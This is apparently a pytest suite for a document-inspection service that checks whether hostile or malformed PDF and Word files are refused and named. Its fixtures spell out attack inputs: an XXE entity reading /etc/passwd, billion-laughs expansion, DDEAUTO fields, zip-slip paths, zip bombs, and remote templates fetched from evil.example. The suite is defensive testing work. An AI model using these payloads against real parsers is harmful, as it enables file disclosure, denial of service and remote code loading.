"""Every hostile document gets a verdict and hurts nobody (rows B1 to B26, G19)."""

import zipfile

import pytest

from services.documents.children import Children
from shared.contracts.checks import FindingCode
from tests.support.compound_file import compound_file
from tests.support.corpus.producers import ELSEWHERE
from tests.support.documents import (
    doc,
    docx,
    docx_marked_as_encrypted,
    docx_parts,
    docx_that_lies_about_its_size,
    docx_with,
    docx_with_body,
    docx_with_content_type,
    docx_with_overlapping_parts,
    docx_with_part,
    docx_with_relationship,
    locked_pdf,
    pdf,
    pdf_bomb,
    pdf_for_certain_people,
    pdf_with_action,
    pdf_with_attachment,
    pdf_with_many_pages,
    pdf_with_page_action,
    pdf_with_page_cycle,
    pdf_with_xfa,
    raw_pdf,
    zipped,
)
from tests.support.inspecting import inspect
from tests.support.rare_documents import (
    excel_4_macros,
    pdf_that_claims_objects,
    pdf_with_long_packed_table,
    pdf_with_long_table,
    rtf_with_object,
)

MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET = "application/vnd.ms-excel.macrosheet+xml"
XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><w>&c;</w>'
)
DDE = "<w:p><w:r><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText></w:r></w:p>"
FIELD = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\x "/></w:p>'


@pytest.fixture(scope="module")
def children():
    children = Children(count=1)
    yield children
    children.close()


UNSAFE = {
    "B5 javascript": (lambda: pdf_with_action("/JavaScript"), "javascript"),
    "B6 launch": (lambda: pdf_with_action("/Launch"), "launch"),
    "B6 launch, named elsewhere": (lambda: pdf_with_action("/Launch", is_indirect=True), "launch"),
    "B6 remote go-to": (lambda: pdf_with_action("/GoToR"), "gotor"),
    "B6 page fetched on opening": (lambda: pdf_with_action("/URI"), "uri"),
    "B6 page fetched on showing a page": (pdf_with_page_action, "uri"),
    "B6 page fetched after another action": (lambda: pdf_with_page_action(first="/GoTo"), "uri"),
    "B6 embedded file": (pdf_with_attachment, "embeddedfiles"),
    "B6 XFA": (pdf_with_xfa, "xfa"),
    "B7 Flate bomb": (pdf_bomb, FindingCode.BOMB),
    "B9 PDF and Word file in one": (lambda: pdf() + docx(), FindingCode.TWO_FORMATS),
    "B9 Word file and PDF in one": (
        lambda: zipped({"a": pdf()} | docx_parts(), zipfile.ZIP_STORED),
        FindingCode.TWO_FORMATS,
    ),
    "B9 Word 97 file and Word file in one": (lambda: doc() + docx(), FindingCode.TWO_FORMATS),
    "B14 zip bomb by size": (
        lambda: docx_with(**{"word/x.xml": " " * 70_000_000}),
        FindingCode.BOMB,
    ),
    "B14 zip bomb by ratio": (
        lambda: docx_with(**{"word/x.xml": " " * 2_000_000}),
        FindingCode.BOMB,
    ),
    "B16 too many entries": (
        lambda: docx_with(**{f"{n}.xml": "" for n in range(2_000)}),
        FindingCode.BOMB,
    ),
    "B17 a zip inside": (lambda: docx_with(**{"word/x.bin": docx()}), "embedded_object"),
    "B17 overlapping entries": (docx_with_overlapping_parts, "overlapping_parts"),
    "B18 zip-slip": (lambda: docx_with(**{"../../etc/passwd": "x"}), "path_traversal"),
    "B18 zip-slip from Windows": (lambda: docx_with(**{"..\\..\\x": "x"}), "path_traversal"),
    "B19 external entity": (lambda: docx_with(**{"word/document.xml": XXE}), "xml_entities"),
    "B20 billion laughs": (lambda: docx_with(**{"word/document.xml": LAUGHS}), "xml_entities"),
    "B21 macros in a part": (
        lambda: docx_with(**{"word/vbaProject.bin": "x"}),
        FindingCode.MACROS,
    ),
    "B21 .docm renamed": (lambda: docx_with_content_type(MACROS), FindingCode.MACROS),
    "B21 macros in a .doc": (lambda: doc(Macros__VBA__dir=b"x"), FindingCode.MACROS),
    "B22 Excel 4 macros in a part": (
        lambda: docx_with(**{"xl/macrosheets/sheet1.xml": "<x/>"}),
        FindingCode.MACROS,
    ),
    "B22 Excel 4 macros by type": (lambda: docx_with_content_type(SHEET), FindingCode.MACROS),
    "B22 Excel 4 macros in a .doc": (
        lambda: doc(Workbook=excel_4_macros()),
        FindingCode.TWO_FORMATS,
    ),
    "B22 DDE in pieces": (lambda: docx_with_body(DDE), "active_field"),
    "B22 DDE in a simple field": (lambda: docx_with_body(FIELD), "active_field"),
    "B22 DDE in a header": (lambda: docx_with_part("header", DDE), "active_field"),
    "B22 DDE in a footnote": (lambda: docx_with_part("footnotes", FIELD), "active_field"),
    "B22 DDE in a .doc": (lambda: doc(words=("\x13 DDEAUTO c:\\x \x14!\x15",)), "active_field"),
    "B22 OLE object": (
        lambda: docx_with_relationship("oleObject", "embeddings/o.bin", "Internal"),
        "embedded_object",
    ),
    "B22 RTF inside": (
        lambda: docx_with_relationship("aFChunk", "chunk.rtf", "Internal"),
        "embedded_object",
    ),
    "B22 OLE object in a .doc": (lambda: doc(ObjectPool___1__Ole=b"x"), "embedded_object"),
    "B22 a program inside": (lambda: docx_with(**{"word/media/i.png": "MZ"}), "embedded_object"),
    "B22 RTF with an object inside": (
        lambda: docx_with(**{"word/x.bin": rtf_with_object()}),
        "embedded_object",
    ),
    "B23 remote template": (
        lambda: docx_with_relationship("attachedTemplate", "https://evil.example/t.dotm"),
        "external_content",
    ),
    "B23 remote template on a share": (
        lambda: docx_with_relationship("attachedTemplate", "file://evil.example/t.dotm"),
        "external_content",
    ),
    "B23 remote image": (
        lambda: docx_with_relationship("image", "\\\\evil.example\\i.png"),
        "external_content",
    ),
}


@pytest.mark.parametrize("row", UNSAFE)
async def test_D3_unsafe_documents_are_refused_and_named(row, children):
    build, expected = UNSAFE[row]
    inspection = await inspect(children, build(), row)
    if isinstance(expected, FindingCode):
        assert inspection.problem is expected
    else:
        assert (inspection.problem, inspection.detail) == (FindingCode.UNSAFE_CONTENT, expected)


OTHERS = {
    "B1 no bytes": (lambda: b"", FindingCode.EMPTY),
    "B3 truncated PDF": (lambda: pdf()[:700], FindingCode.TRUNCATED),
    "B3 truncated Word file": (lambda: docx()[:500], FindingCode.TRUNCATED),
    "B3 truncated .doc": (lambda: doc()[:600], FindingCode.TRUNCATED),
    "B3 Word file with broken XML": (
        lambda: docx_with(**{"word/document.xml": "<w:document>"}),
        FindingCode.DAMAGED,
    ),
    "B4 locked PDF": (locked_pdf, FindingCode.PASSWORD_LOCKED),
    "B4 PDF locked with AES": (
        lambda: locked_pdf(algorithm="AES-256"),
        FindingCode.PASSWORD_LOCKED,
    ),
    "B4 PDF locked for certain people": (pdf_for_certain_people, FindingCode.PASSWORD_LOCKED),
    "B4 locked .doc": (lambda: doc(flags=0x0100), FindingCode.PASSWORD_LOCKED),
    "B4 locked .docx": (
        lambda: compound_file({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
        FindingCode.PASSWORD_LOCKED,
    ),
    "B8 cyclic page tree": (pdf_with_page_cycle, None),
    "B8 100,000 pages": (lambda: pdf_with_many_pages(100_000), FindingCode.NOT_INSPECTED),
    "B8 a table of a million objects": (lambda: pdf_with_long_table(1_000_000), None),
    "B8 a packed table of two million": (lambda: pdf_with_long_packed_table(2_000_000), None),
    "B8 a packed table of ten million": (
        lambda: pdf_with_long_packed_table(10_000_000),
        FindingCode.DAMAGED,
    ),
    "B8 PDF of nothing": (lambda: raw_pdf(b"null"), None),
    "B9 PDF with a program behind": (lambda: pdf() + b"MZ\x90", FindingCode.DAMAGED),
    "B9 Word file with more behind": (lambda: docx() + b"more", FindingCode.DAMAGED),
    "B22 Excel 4 macros": (
        lambda: compound_file({"Workbook": excel_4_macros()}),
        FindingCode.WRONG_FORMAT,
    ),
    "B22 RTF with an object": (rtf_with_object, FindingCode.WRONG_FORMAT),
    "B15 a size that lies": (docx_that_lies_about_its_size, FindingCode.DAMAGED),
    "B26 encrypted entries": (docx_marked_as_encrypted, FindingCode.PASSWORD_LOCKED),
    "unknown compression": (
        lambda: zipped(docx_parts(), zipfile.ZIP_LZMA),
        FindingCode.DAMAGED,
    ),
}


@pytest.mark.parametrize("row", OTHERS)
async def test_D3_D8_whatever_the_bytes_there_is_a_problem_with_a_name(row, children):
    build, problem = OTHERS[row]
    inspection = await inspect(children, build(), row)
    assert inspection.problem is problem or (problem is None and inspection.problem)


async def test_B8_a_claim_of_a_thousand_million_objects_is_not_believed(children):
    inspection = await inspect(children, pdf_that_claims_objects(1_000_000_000))
    assert inspection.problem is None


MADE_ELSEWHERE = sorted((*ELSEWHERE.glob("*-cv.doc*"), *ELSEWHERE.glob("[cg]*-cv.pdf")))


@pytest.mark.parametrize(
    "make",
    [pdf, docx, doc, *(path.read_bytes for path in MADE_ELSEWHERE)],
    ids=["pdf", "docx", "doc", *(path.name for path in MADE_ELSEWHERE)],
)
async def test_G19_a_file_cut_or_scrambled_anywhere_gets_a_finding_and_no_child_dies(
    make, children
):
    whole = make()
    for number in range(24):
        at = number * len(whole) // 24
        scrambled = whole[:at] + bytes(b ^ 0x5A for b in whole[at : at + 8]) + whole[at + 8 :]
        for data in (whole[:at], scrambled):
            inspection = await inspect(children, data)
            assert inspection.detail not in {"crashed", "timeout", "nonsense"}
